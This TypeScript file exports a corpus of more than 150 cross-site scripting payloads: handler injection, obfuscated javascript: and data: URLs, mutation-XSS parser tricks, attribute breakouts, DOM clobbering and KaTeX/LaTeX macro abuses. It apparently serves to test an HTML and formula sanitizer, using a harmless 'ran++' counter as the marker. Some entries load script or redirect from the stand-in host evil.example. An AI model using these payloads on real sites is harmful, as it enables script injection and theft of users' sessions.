/** What marks that something ran: the page's counter `ran` grows. Short, so that it fits into short fields too. */
const js = 'ran++'

const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'onbegin', 'ontoggle', 'onpointerenter', 'onbeforeinput', 'onscroll', 'onwheel', 'oncut', 'ontransitionend']

/** Elements that load, focus, open or move by themselves, each with handlers that would be called. */
const byHandler = handlers.flatMap((name) => [
  `<img src=x ${name}=${js}>`,
  `<svg ${name}="${js}"><animate ${name}="${js}" attributeName=x dur=1s /></svg>`,
  `<details open ${name}="${js}"><summary>看</summary></details>`,
  `<p tabindex=0 autofocus ${name}="${js}" style="animation:x 1s;overflow:scroll">段</p>`,
])

const schemes = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', '&#x6A&#x61vascript:', 'vbscript:', 'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=', 'blob:javascript:', 'feed:javascript:', 'view-source:javascript:', '//evil.example/', '\\\\evil.example/']
const byAddress = schemes.flatMap((scheme) => [`<a href="${scheme}${js}">链接</a>`, `<iframe src="${scheme}${js}"></iframe>`])

const elements = [
  `<script>${js}</script>`, `<SCRIPT>${js}</SCRIPT>`, `<scr<script>ipt>${js}</scr</script>ipt>`, `<script src="data:,${js}"></script>`, `<script src=//evil.example/x.js></script>`, `<script\n>${js}</script\n>`,
  `<script/x>${js}</script>`, `<<script>${js}//<</script>`, `<script type=module>${js}</script>`, `<svg><script>${js}</script></svg>`, `<svg><script href="data:,${js}" /></svg>`, `<math><script>${js}</script></math>`,
  `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`, `<iframe src=javascript:parent.${js}>`, `<object data="data:text/html,<script>${js}</script>"></object>`, `<embed src="javascript:${js}">`, `<applet code=x>`,
  `<base href="javascript:/a/">`, `<meta http-equiv=refresh content="0;url=javascript:${js}">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href="data:text/html,x">`,
  `<style>@import 'javascript:${js}';*{background:url(//evil.example/x)}</style>`, `<style>body{display:none}</style>`, `<p style="background:url(javascript:${js})">段</p>`, `<p style="position:fixed;inset:0;width:expression(${js})">段</p>`,
  `<form action="javascript:${js}"><button>按</button></form>`, `<button formaction="javascript:${js}">按</button>`, `<input autofocus onfocus="${js}">`, `<select autofocus onfocus="${js}"><option>x</select>`, `<textarea autofocus onfocus="${js}">`,
  `<isindex action=javascript:${js} type=image>`, `<body onload="${js}">`, `<html onload="${js}">`, `<frameset onload="${js}">`, `<marquee onstart="${js}">走</marquee>`, `<video><source onerror="${js}"></video>`, `<audio src=x onerror="${js}">`,
  `<video poster=javascript:${js}></video>`, `<table background="javascript:${js}"><tr><td>格</td></tr></table>`, `<td background="javascript:${js}">`, `<img src="javascript:${js}">`, `<img srcset="x 1x, javascript:${js} 2x">`, `<image src=x onerror="${js}">`,
  `<portal src="javascript:${js}">`, `<template><img src=x onerror="${js}"></template>`, `<slot onslotchange="${js}">`, `<dialog open onclose="${js}">`, `<keygen autofocus onfocus="${js}">`, `<xss onmouseover="${js}" id=x tabindex=1>`,
  `<a ping="https://evil.example" href="/home/index">页</a>`, `<a target=_top href="javascript:${js}">`, `<area href="javascript:${js}">`, `<svg><a xlink:href="javascript:${js}"><text y=20>图</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${js} />#x"/></svg>`,
  `<svg><set attributeName=onmouseover to="${js}"/></svg>`, `<svg><foreignObject><img src=x onerror="${js}"></foreignObject></svg>`, `<math href="javascript:${js}">式</math>`, `<math><maction actiontype="statusline#x" xlink:href="javascript:${js}">式</maction></math>`,
]

/** Markup that one parser reads as words and another as elements. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`, `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`, `<svg><style>&lt;img src=x onerror=${js}&gt;</style></svg>`, `<p title="<img src=x onerror=${js}>">段`, `<!--><img src=x onerror=${js}>-->`, `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${js}>]]>`, `<?xml-stylesheet href="javascript:${js}"?>`, `<!DOCTYPE x [<!ENTITY y "<script>${js}</script>">]>&y;`, `<xmp><img src=x onerror=${js}></xmp>`, `<plaintext><img src=x onerror=${js}>`, `<textarea></textarea><img src=x onerror=${js}>`,
  `<title><img src=x onerror=${js}></title>`, `<noembed><img src=x onerror=${js}></noembed>`, `<iframe><img src=x onerror=${js}></iframe>`, `<select><style></select><img src=x onerror=${js}></style>`, `<a href="x"onclick="${js}">紧</a>`, `<img src="x" / onerror=${js}>`,
  `<img/src=x/onerror=${js}>`, `<img src='x'onerror='${js}'>`, '<img src=x onerror=`' + js + '`>', `<img src=x onerror\u000c=${js}>`, `<img src=x\u0000onerror=${js}>`.replace('\u0000', '&#0;'), `"><img src=x onerror=${js}>`, `'><svg onload=${js}>`, `</p></div></article><script>${js}</script>`,
  `</textarea><script>${js}</script>`, `</script><script>${js}</script>`, `&lt;script&gt;${js}&lt;/script&gt;`, `&amp;lt;img src=x onerror=${js}&amp;gt;`, `＜script＞${js}＜/script＞`, `%3Cscript%3E${js}%3C/script%3E`, `\\u003cscript\\u003e${js}\\u003c/script\\u003e`, `{{constructor.constructor('${js}')()}}`,
  '${' + js + '}', `[链接](javascript:${js})`, `javascript:${js}`, `<p class="align-center x" id="root" name="getElementById">遮</p>`, `<a id=location href="/x">遮</a>`, `<form id=document><input name=cookie></form>`, `${'<p>'.repeat(200)}<img src=x onerror=${js}>`, `<table><tr><script>${js}</script><td>格`,
  `<a data-file="0197f1c2-0000-7000-8000-0000c0de0001"onclick="${js}" href="javascript:${js}">附</a>`, `<img data-file="x&quot; onerror=&quot;${js}" alt="&quot;><script>${js}</script>">`, `<ol start="1' onclick='${js}"><li>一</ol>`, `<td colspan="2&quot; onclick=&quot;${js}">格</td>`,
]

/** Within formulas: what the typesetter could be talked into. */
const formulas = [
  `$\\href{javascript:${js}}{x}$`, `\\(\\url{javascript:${js}}\\)`, `\\(\\htmlData{onclick=${js}}{x}\\)`, `\\(\\htmlClass{x" onclick="${js}}{x}\\)`, `\\[\\includegraphics[alt="><img src=x onerror=${js}>]{javascript:${js}}\\]`,
  `$\\text{<img src=x onerror=${js}>}$`, `$\\text{</annotation></semantics></math><img src=x onerror=${js}>}$`, `\\(</math><script>${js}</script>\\)`, `$$\\color{red" onclick="${js}}{x}$$`, `\\(\\unicode{x<script>${js}</script>}\\)`, `\\(\\htmlStyle{background:url(javascript:${js})}{x}\\)`,
]

/** More than 150 attempts to have a page run what somebody typed. */
export const payloads: readonly string[] = [...byHandler, ...byAddress, ...elements, ...mutations, ...formulas]
